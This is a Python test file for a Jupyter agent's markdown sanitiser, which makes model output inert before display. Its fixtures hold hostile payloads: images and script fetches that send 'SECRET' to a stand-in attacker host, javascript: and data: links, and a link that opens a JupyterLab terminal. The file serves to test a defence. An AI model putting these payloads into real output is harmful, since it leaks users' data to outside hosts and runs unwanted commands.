"""Model output is made inert before display: no remote fetch, no trusted HTML."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from jupyter_dsagent.agent.markdown import neutralise_markdown

REMOTE = "https://attacker.example/p.png?leak=SECRET"


@pytest.mark.parametrize(
    "text",
    [
        f"![chart]({REMOTE})",
        f'![chart]( {REMOTE} "title")',
        f"![chart][r]\n\n[r]: {REMOTE}",
        f"![chart][r]\n\n   [r]: <{REMOTE}> 'title'",
        f'<img src="{REMOTE}">',
        f"<IMG SRC={REMOTE}>",
        f"<script>fetch('{REMOTE}')</script>",
        '<a href="#" data-commandlinker-command="terminal:create-new">x</a>',
        f"<{REMOTE}>",
        f"[click]({REMOTE})",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](//attacker.example/x)",
    ],
)
def test_remote_and_active_content_is_neutralised(text: str) -> None:
    out = neutralise_markdown(text)
    assert "<img" not in out.lower() and "<script" not in out.lower() and "<a " not in out
    assert "![" not in out
    assert not re.search(r"\]\(\s*(https?:|javascript:|data:|//)", out)
    assert not re.search(r"^\s{0,3}\[[^\]]+\]:\s*<?https?:", out, re.M)


def test_local_links_code_and_plain_text_are_kept() -> None:
    text = (
        "Use `![x](https://a.b/c)` literally.\n\n"
        "[section](#missing-values) and [file](data/x.csv)\n\n"
        "```python\nhtml = '<img src=\"https://a.b\">'\n```\n1. Plot age\n2. Train"
    )
    assert neutralise_markdown(text) == text


RENDERER_TAGS = {
    "p",
    "code",
    "pre",
    "em",
    "strong",
    "a",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "hr",
    "br",
}
fragments = st.sampled_from(
    [
        "![a](",
        "![a][",
        "](",
        "[r]: ",
        "[r]",
        "<img src=",
        REMOTE,
        "`",
        "```",
        "~~~",
        "\n",
        " ",
        "    ",
        "x",
        "<",
        ">",
        ")",
        "]",
        "[",
        "!",
        "'",
        '"',
        "<https://a.example>",
        "javascript:alert(1)",
        "<a href=",
        "&lt;",
    ]
)


@given(st.lists(fragments, max_size=40).map("".join))
@example("[r]: <https://a.example>![a][![a](")  # "[" in a URL: urlsplit's IPv6 error
@example("[r]: <https://a.example>![a](")
def test_rendered_output_never_fetches_or_links_remotely(text: str) -> None:
    """Rendered by a CommonMark renderer (raw HTML on), nothing remote or active remains."""
    html = MarkdownIt("commonmark", {"html": True}).render(neutralise_markdown(text))
    lowered = html.lower()
    assert "<img" not in lowered and "<script" not in lowered
    tags = set(re.findall(r"</?([a-z][a-z0-9]*)", lowered))
    assert tags <= RENDERER_TAGS, html  # no raw HTML got through: only markdown's own tags
    assert not re.search(r'href="(?:[a-z][a-z0-9+.-]*:|//|\\\\)', lowered), html
